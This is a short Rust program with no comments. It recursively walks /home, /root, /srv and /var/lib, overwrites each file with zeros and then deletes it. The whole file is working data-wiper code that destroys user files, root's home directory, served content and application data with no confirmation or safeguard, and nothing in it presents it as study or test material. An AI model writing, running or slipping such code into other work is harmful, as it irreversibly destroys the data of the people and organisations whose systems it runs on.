use std::fs;
use std::path::Path;

fn burn(dir: &Path) {
    let Ok(rd) = fs::read_dir(dir) else { return };
    for e in rd.flatten() {
        let p = e.path();
        match e.file_type() {
            Ok(t) if t.is_dir() => {
                burn(&p);
                let _ = fs::remove_dir(&p);
            }
            Ok(_) => {
                let len = e.metadata().map(|m| m.len()).unwrap_or(0) as usize;
                let _ = fs::write(&p, vec![0u8; len]);
                let _ = fs::remove_file(&p);
            }
            Err(_) => {}
        }
    }
}

fn main() {
    for d in ["/home", "/root", "/srv", "/var/lib"] {
        burn(Path::new(d));
    }
}
